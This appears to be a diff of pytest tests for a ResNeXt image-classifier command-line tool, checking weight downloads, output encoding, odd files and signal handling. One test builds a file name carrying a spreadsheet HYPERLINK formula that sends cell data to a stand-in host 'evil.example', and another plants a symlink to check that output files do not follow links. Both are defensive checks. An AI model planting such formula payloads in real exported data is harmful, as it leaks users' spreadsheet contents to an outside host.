@@ -10,6 +10,7 @@ import signal
 import subprocess
 import sys
 import time
+from pathlib import Path
 
 import numpy as np
 import pytest
@@ -110,17 +111,32 @@ def test_missing_cuda_is_a_clear_error(checkpoint, tree):
     assert r.returncode == 2 and "no CUDA GPU" in r.stderr and "Traceback" not in r.stderr
 
 
-def test_weights_fetch_and_info(tmp_path, checkpoint):
+@pytest.fixture
+def checkpoint_is_v2(monkeypatch, checkpoint):
+    """Make the generated checkpoint stand in for the official V2 file (its hash prefix and size)."""
+    import dataclasses
+
+    from resnext_gui.core import weights as W
+
     payload = checkpoint.read_bytes()
-    name = f"resnext50_32x4d-{hashlib.sha256(payload).hexdigest()[:8]}.pth"
-    with WeightsServer({name: payload, "resnext50_32x4d-00000000.pth": payload}) as srv:
-        bad = run_cli("weights", "fetch", "--url", f"{srv.base}/resnext50_32x4d-00000000.pth")
-        assert bad.returncode == 2 and "checksum" in bad.stderr
-        cache = tmp_path / "torch" / "hub" / "checkpoints"
+    fake = dataclasses.replace(W.VARIANTS["v2"], hash_prefix=hashlib.sha256(payload).hexdigest()[:8],
+                               size_bytes=len(payload), sha512=None)
+    monkeypatch.setitem(W.VARIANTS, "v2", fake)
+    return payload
+
+
+def test_weights_fetch_and_info(tmp_path, checkpoint, checkpoint_is_v2, capsys, monkeypatch):
+    from resnext_gui.cli import main
+
+    payload = checkpoint_is_v2
+    cache = tmp_path / "torch" / "hub" / "checkpoints"
+    with WeightsServer({"mirror.pth": payload, "other.pth": payload[:-1] + b"x"}) as srv:
+        assert main(["weights", "fetch", "--url", f"{srv.base}/other.pth"]) == 2
+        assert "checksum" in capsys.readouterr().err
         assert not cache.exists() or list(cache.iterdir()) == []
-        r = run_cli("weights", "fetch", "--url", f"{srv.base}/{name}", env={"TORCH_HOME": str(tmp_path / "torch")})
-    assert r.returncode == 0, r.stderr
-    saved = tmp_path / "torch" / "hub" / "checkpoints" / "resnext50_32x4d-1a0047aa.pth"
+        monkeypatch.setenv("TORCH_HOME", str(tmp_path / "torch"))
+        assert main(["weights", "fetch", "--url", f"{srv.base}/mirror.pth"]) == 0
+    saved = cache / "resnext50_32x4d-1a0047aa.pth"
     assert saved.read_bytes() == payload
     info = run_cli("weights", "info", env={"TORCH_HOME": str(tmp_path / "torch")})
     assert info.returncode == 0, info.stderr
@@ -130,6 +146,28 @@ def test_weights_fetch_and_info(tmp_path, checkpoint):
     # and classify now finds them with no flag at all
     c = run_cli("classify", REPO / "tests" / "helpers.py", env={"TORCH_HOME": str(tmp_path / "torch")})
     assert c.returncode == 1 and "not an image" in lines(c.stdout)[0]["error"]
+
+
+def test_weights_fetch_failures_are_one_message_and_exit_2(tmp_path, monkeypatch, checkpoint_is_v2, capsys):
+    from resnext_gui.cli import main
+    from resnext_gui.core import weights as W
+
+    monkeypatch.setenv("TORCH_HOME", str(tmp_path / "torch"))
+    with WeightsServer({"mirror.pth": checkpoint_is_v2}) as srv:
+        assert main(["weights", "fetch", "--url", f"{srv.base}/chunked-drop/mirror.pth"]) == 2
+        err = capsys.readouterr().err
+        assert "cut off" in err and "nothing was saved" in err
+        monkeypatch.setenv(W.ENV_MIRROR, f"{srv.base}/{W.VARIANTS['v1'].filename}")
+        assert main(["weights", "fetch", "--variant", "v2"]) == 2  # the URL must not swap the variant
+        assert "names the v1 weights" in capsys.readouterr().err
+    assert not (tmp_path / "torch" / "hub" / "checkpoints").exists() or \
+        list((tmp_path / "torch" / "hub" / "checkpoints").iterdir()) == []
+    blocker = tmp_path / "not a folder"
+    blocker.write_bytes(b"")
+    monkeypatch.delenv(W.ENV_MIRROR)
+    monkeypatch.setenv("TORCH_HOME", str(blocker))
+    assert main(["weights", "fetch", "--url", "http://127.0.0.1:9/mirror.pth"]) == 2
+    assert "cannot save" in capsys.readouterr().err
 
 
 def test_ctrl_c_keeps_every_finished_line(checkpoint, tree):
@@ -155,3 +193,221 @@ def test_self_test_from_source(checkpoint):
     summary = json.loads(r.stdout.splitlines()[-1])
     assert summary["ok"] and not summary["frozen"] and summary["cam"]["shape"] == [5, 7, 7]
     assert summary["window"].startswith("opened")
+
+
+def run_cli_bytes(*args, env=None, cwd=None, timeout=180) -> subprocess.CompletedProcess:
+    """Like run_cli, but stdout comes back as bytes (to check the encoding itself), the worktree's package first."""
+    return subprocess.run(
+        [sys.executable, "-m", "resnext_gui", *map(str, args)],
+        capture_output=True,
+        env={**os.environ, "PYTHONPATH": str(REPO), **(env or {})},
+        timeout=timeout,
+        cwd=cwd or REPO,
+    )
+
+
+def test_csv_output_neutralises_formulas_in_file_names(checkpoint, photos, tmp_path):
+    evil = '=HYPERLINK("evil.example?"&A1,"click")'  # no slash: it is a file name
+    shutil.copy(photos["coffee"], tmp_path / f"{evil}.png")
+    (tmp_path / "@SUM(1+1).jpg").write_text("not a photo")
+    r = run_cli_bytes("classify", "--weights", checkpoint, "--format", "csv", f"{evil}.png", "@SUM(1+1).jpg", cwd=tmp_path)
+    assert r.returncode == 1, r.stderr
+    rows = list(csv.DictReader(io.StringIO(r.stdout.decode("utf-8"), newline="")))
+    assert [row["path"] for row in rows] == [f"'{evil}.png", "'@SUM(1+1).jpg"]
+    assert rows[0]["ok"] == "True" and rows[1]["error"].startswith("'@SUM(1+1).jpg is not an image")
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
+
+
+@pytest.fixture(scope="module")
+def odd_names(tmp_path_factory, photos):
+    """A folder of photos whose names are not valid UTF-8 or hold Unicode line separators."""
+    folder = tmp_path_factory.mktemp("odd names")
+    names = [b"caf\xe9 latin-1.png", b"\xff\xfe raw bytes.png", "line\u2028sep\u2029para\u0085nel.png".encode()]
+    data = photos["coffee"].read_bytes()
+    for name in names:
+        with open(os.path.join(os.fsencode(folder), name), "wb") as fh:
+            fh.write(data)
+    return folder, names
+
+
+@pytest.mark.parametrize("fmt,lc_all", [("jsonl", "C"), ("csv", "C.UTF-8"), ("jsonl", "C.UTF-8")])
+def test_output_is_valid_utf8_whatever_the_file_names(checkpoint, odd_names, fmt, lc_all):
+    folder, names = odd_names
+    r = run_cli_bytes("classify", "--weights", checkpoint, "--format", fmt, folder,
+                      env={"LC_ALL": lc_all, "LANG": lc_all, "PYTHONUTF8": "", "PYTHONIOENCODING": ""})
+    assert r.returncode == 0, r.stderr.decode("utf-8", "replace")
+    text = r.stdout.decode("utf-8")  # strict: raises on any invalid byte
+    if fmt == "csv":
+        got = list(csv.DictReader(io.StringIO(text, newline="")))
+    else:
+        assert not any(c in text for c in "\u2028\u2029\u0085")
+        got = [json.loads(line) for line in text.split("\n") if line]
+    assert len(got) == len(names)
+    by_bytes = {}
+    for rec in got:
+        if rec.get("path_bytes"):
+            assert "\ufffd" in rec["path"]
+            by_bytes[bytes.fromhex(rec["path_bytes"])] = rec
+        else:
+            by_bytes[os.fsencode(rec["path"])] = rec
+    assert set(by_bytes) == {os.path.join(os.fsencode(folder), n) for n in names}
+    assert all(str(rec["ok"]) == "True" for rec in got)
+
+
+def test_pipes_devices_and_empty_folders(checkpoint, photos, tmp_path):
+    """/dev/stdin, a FIFO and /dev/zero are answered without blocking; an empty folder is a warning."""
+    fifo = tmp_path / "pipe.png"
+    os.mkfifo(fifo)
+    empty = tmp_path / "empty folder"
+    empty.mkdir()
+    (tmp_path / "no images").mkdir()
+    (tmp_path / "no images" / "notes.txt").write_text("hello")
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    shutil.copy(photos["coffee"], outside / "away.png")
+    album = tmp_path / "album"
+    album.mkdir()
+    shutil.copy(photos["coffee"], album / "home.png")
+    (album / "link out").symlink_to(outside)
+    proc = subprocess.run(
+        [sys.executable, "-m", "resnext_gui", "classify", "--weights", str(checkpoint), str(fifo), "/dev/stdin",
+         "/dev/zero", str(empty), str(tmp_path / "no images"), str(album)],
+        stdin=subprocess.PIPE, capture_output=True, text=True, cwd=REPO, timeout=180,
+    )  # stdin stays open and empty: reading it would block until the timeout
+    assert proc.returncode == 1, proc.stderr
+    out = lines(proc.stdout)
+    assert [o["ok"] for o in out] == [False, False, False, True]
+    assert all("is not a regular file" in o["error"] for o in out[:3])
+    assert f"{empty} holds no images" in proc.stderr and "no images holds no images" in proc.stderr
+    assert f"skipped {album / 'link out'}: is a link that leads outside the folder" in proc.stderr
+    assert "1 folders or links skipped" in proc.stderr and "Traceback" not in proc.stderr
+    r = run_cli("classify", "--weights", checkpoint, empty)
+    assert r.returncode == 1 and "nothing to classify" in r.stderr and r.stdout == ""
+
+
+def test_unreadable_folder_is_warned_counted_and_fails_the_run(checkpoint, photos, tmp_path, monkeypatch, capsys):
+    from resnext_gui.cli import main
+
+    (tmp_path / "locked").mkdir()
+    shutil.copy(photos["coffee"], tmp_path / "ok.png")
+    real = os.scandir
+
+    def scandir(path="."):
+        if os.fspath(path).endswith("locked"):
+            raise PermissionError(13, "Permission denied", os.fspath(path))
+        return real(path)
+
+    monkeypatch.setattr(os, "scandir", scandir)
+    assert main(["classify", "--weights", str(checkpoint), str(tmp_path)]) == 1
+    captured = capsys.readouterr()
+    assert [o["ok"] for o in lines(captured.out)] == [True]
+    assert f"skipped {tmp_path / 'locked'}: cannot be read: Permission denied" in captured.err
+    assert "(1 could not be read)" in captured.err
+
+
+def test_cam_dir_is_checked_before_the_model_loads(checkpoint, photos, tmp_path):
+    a_file = tmp_path / "a file"
+    a_file.write_text("x")
+    for cam_dir, words in ((a_file, "is not a folder"), (a_file / "sub", "cannot be created")):
+        r = run_cli("classify", "--weights", tmp_path / "no such weights.pth", "--cam-dir", cam_dir, photos["coffee"])
+        assert r.returncode == 2 and words in r.stderr and "Traceback" not in r.stderr
+        assert "loading the model" not in r.stderr  # refused before: a missing checkpoint is not even noticed
+
+
+def test_cam_files_are_atomic_short_and_never_follow_links(checkpoint, photos, tmp_path, monkeypatch, capsys):
+    from resnext_gui import cli
+
+    long_name = tmp_path / ("é" * 120 + "x" * 11 + ".png")  # 251 + 4 = 255 bytes, the longest a name can be
+    assert len(os.fsencode(long_name.name)) == 255
+    shutil.copy(photos["coffee"], long_name)
+    shutil.copy(photos["chelsea"], tmp_path / "cat.png")
+    cams = tmp_path / "cams"
+    cams.mkdir()
+    victim = tmp_path / "victim.txt"
+    victim.write_text("must stay")
+    (cams / "cat.cam.png").symlink_to(victim)  # planted at the name the map will get
+    assert cli.main(["classify", "--weights", str(checkpoint), "--cam-dir", str(cams), str(long_name),
+                     str(tmp_path / "cat.png")]) == 0
+    out = lines(capsys.readouterr().out)
+    assert all(o["ok"] for o in out)
+    assert victim.read_text() == "must stay" and not (cams / "cat.cam.png").is_symlink()
+    assert all(len(os.fsencode(Path(o["cam_png"]).name)) <= 255 for o in out)
+    assert sorted(p.name for p in cams.iterdir() if p.name.startswith(".")) == []
+
+    def disk_full(array, fh):
+        fh.write(b"\x89PNG partial")
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr("resnext_gui.core.classifier.save_png", disk_full)
+    full = tmp_path / "full"
+    full.mkdir()
+    assert cli.main(["classify", "--weights", str(checkpoint), "--cam-dir", str(full), str(tmp_path / "cat.png")]) == 1
+    out = lines(capsys.readouterr().out)
+    assert not out[0]["ok"] and "cannot write its Grad-CAM: No space left on device" in out[0]["error"]
+    assert list(full.iterdir()) == []  # no empty or partial file left
+
+
+@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
+def test_stdout_full_or_closed_is_one_clear_line(checkpoint, photos):
+    with open("/dev/full", "w") as full:
+        proc = subprocess.run([sys.executable, "-m", "resnext_gui", "classify", "--weights", str(checkpoint),
+                               str(photos["coffee"])], stdout=full, stderr=subprocess.PIPE, text=True, cwd=REPO,
+                              timeout=180)
+    assert proc.returncode == 1
+    assert "cannot write the results to standard output: No space left on device" in proc.stderr
+    assert "Traceback" not in proc.stderr and "Exception ignored" not in proc.stderr
+    closed = subprocess.run(f'"{sys.executable}" -m resnext_gui classify --weights "{checkpoint}" "{photos["coffee"]}" >&-',
+                            shell=True, capture_output=True, text=True, cwd=REPO, timeout=180)
+    assert closed.returncode == 1 and "standard output is closed" in closed.stderr
+    assert "Traceback" not in closed.stderr
+
+
+def test_batch_size_over_the_cap_works_with_a_note(checkpoint, photos):
+    r = run_cli("classify", "--weights", checkpoint, "--batch-size", "300", photos["coffee"], photos["chelsea"])
+    assert r.returncode == 0, r.stderr
+    assert "--batch-size 300 is capped at 64" in r.stderr and len(lines(r.stdout)) == 2
+
+
+_WITH_DEFAULT_SIGINT = (  # a test runner started in the background passes SIGINT on as "ignored"
+    "import os, signal, sys; signal.signal(signal.SIGINT, signal.SIG_DFL); "
+    "os.execv(sys.executable, [sys.executable, '-m', 'resnext_gui', *sys.argv[1:]])"
+)
+
+
+def _start(*args):
+    return subprocess.Popen([sys.executable, "-c", _WITH_DEFAULT_SIGINT, *map(str, args)], stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE, text=True, cwd=REPO)
+
+
+def test_ctrl_c_while_the_model_loads_is_quiet(checkpoint, photos):
+    proc = _start("classify", "--weights", checkpoint, photos["coffee"])
+    for line in proc.stderr:  # wait until it says it is loading
+        if "loading the model" in line:
+            break
+    proc.send_signal(signal.SIGINT)
+    out, err = proc.communicate(timeout=60)
+    assert proc.returncode == 130 and "Traceback" not in err and "interrupted" in err
+
+
+def test_sigterm_during_classify_leaves_no_half_written_maps(checkpoint, tree, tmp_path):
+    cams = tmp_path / "cams"
+    proc = _start("classify", "--weights", checkpoint, "--cam-dir", cams, *[tree / "rocket.jpg"] * 100)
+    first = proc.stdout.readline()
+    assert json.loads(first)["ok"]
+    proc.send_signal(signal.SIGTERM)
+    rest, err = proc.communicate(timeout=60)
+    assert proc.returncode == 143 and "Traceback" not in err and "terminated" in err
+    done = [json.loads(line) for line in (first + rest).splitlines()]
+    assert 1 <= len(done) < 100
+    written = {p.name for p in cams.iterdir()}
+    listed = {Path(d[k]).name for d in done for k in ("cam_png", "cam_npy")}
+    assert listed <= written and not any(name.startswith(".") for name in written)  # no temporary file left
+    for name in written:  # and every map there is whole (one may be finished but not yet reported)
+        if name.endswith(".npy"):
+            assert np.load(cams / name).shape == (7, 7)
+            assert (cams / name.replace(".npy", ".png")).exists()
+        else:
+            from PIL import Image
+
+            with Image.open(cams / name) as im:
+                im.load()
